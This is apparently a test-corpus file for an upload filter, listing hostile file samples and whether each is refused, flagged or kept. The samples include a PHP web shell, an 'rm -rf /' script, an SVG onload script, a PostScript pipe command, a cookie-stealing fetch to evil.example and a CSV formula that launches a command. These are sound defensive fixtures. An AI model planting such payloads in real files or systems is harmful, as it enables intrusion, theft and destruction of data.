"""Markup, scripts and programs."""

from tulay.plumbing.files.tests.hostile.corpus import KEPT, REFUSED, UNSAFE, hostile
from tulay.plumbing.files.tests.hostile.good import EICAR, SCRIPT, picture


@hostile(REFUSED, "boat.svg", "image/svg+xml")
def _drawing_with_a_script():
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


@hostile(REFUSED, "boat.png", "image/png")
def _drawing_that_calls_itself_a_picture():
    return b'\xef\xbb\xbf  <?xml version="1.0"?><svg>' + SCRIPT + b"</svg>"


@hostile(REFUSED, "boat.pdf")
def _page_under_the_name_of_a_pdf():
    return b"<!doctype html>" + SCRIPT


@hostile(REFUSED, "boat.txt", "text/plain")
def _page_in_the_middle_of_a_text():
    return b"Dear office,\n" + SCRIPT


@hostile(REFUSED, "boat.jpg", "image/jpeg")
def _php_under_the_name_of_a_picture():
    return b"<?php system($_GET[0]); ?>"


@hostile(REFUSED, "boat.txt", "text/plain")
def _shell_script():
    return b"#!/bin/sh\nrm -rf /\n"


@hostile(REFUSED, "boat.ps", "application/postscript")
def _postscript():
    return b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"


@hostile(REFUSED, "boat.jpg", "image/jpeg")
def _windows_program():
    return b"MZ\x90\0" + b"\0" * 200


@hostile(REFUSED, "boat.pdf")
def _unix_program():
    return b"\x7fELF\2\1\1" + b"\0" * 200


@hostile(REFUSED, "boat.webp", "image/webp")
def _picture_of_a_kind_we_do_not_open():
    return picture("WEBP")


@hostile(REFUSED, "boat.7z", "application/x-7z-compressed")
def _packed_folder():
    return b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 60


@hostile(REFUSED, "boat.txt", "text/plain")
def _text_with_control_characters():
    return b"\x1b]0;owned\x07 hello"


@hostile(UNSAFE, "eicar.com", "application/octet-stream")
def _test_virus():
    return EICAR


@hostile(UNSAFE, "eicar.txt", "text/plain")
def _test_virus_as_a_text():
    return EICAR + b"\r\n"


@hostile(KEPT, "boat.js", "text/javascript")
def _script_as_a_text():
    return b"fetch('//evil.example/' + document.cookie)"


@hostile(KEPT, "boat.csv", "text/csv")
def _formula_as_a_text():
    return b"=cmd|'/c calc'!A1,2\n"
